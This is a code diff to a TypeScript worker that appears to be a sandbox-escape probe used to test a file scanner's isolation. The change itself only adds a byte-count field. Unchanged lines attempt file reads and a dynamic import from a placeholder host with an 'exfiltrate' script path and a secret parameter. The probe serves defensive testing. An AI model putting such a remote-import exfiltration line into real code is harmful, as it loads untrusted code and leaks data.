@@ -18,10 +18,12 @@ async function attempt(action: () => Promise<unknown>): Promise<string> {
 
 async function probe(task: FileTask, batchSize: number): Promise<SourceScanOutcome> {
   const [mode, ...args] = task.path.split("|");
-  if (mode === "batch") return { format: "probe", findings: [], error: `batch of ${batchSize}` };
+  if (mode === "batch") {
+    return { format: "probe", findings: [], bytesScanned: 0, error: `batch of ${batchSize}` };
+  }
   if (mode === "throw") throw new Error("probe exploded");
   if (mode === "hang") { for (;;) { /* spin until terminated */ } }
-  if (mode === "ok") return { format: "probe", findings: [] };
+  if (mode === "ok") return { format: "probe", findings: [], bytesScanned: 0 };
   const [outside, writeTarget, port] = args;
   const results = {
     readTarget: await attempt(() => Deno.readFile(task.realPath)),
@@ -35,7 +37,7 @@ async function probe(task: FileTask, batchSize: number): Promise<SourceScanOutco
     // deno-lint-ignore no-import-prefix
     remoteImport: await attempt(() => import("https://modelaudit.invalid/exfiltrate.js?secret=1")),
   };
-  return { format: "probe", findings: [], error: JSON.stringify(results) };
+  return { format: "probe", findings: [], bytesScanned: 0, error: JSON.stringify(results) };
 }
 
 self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
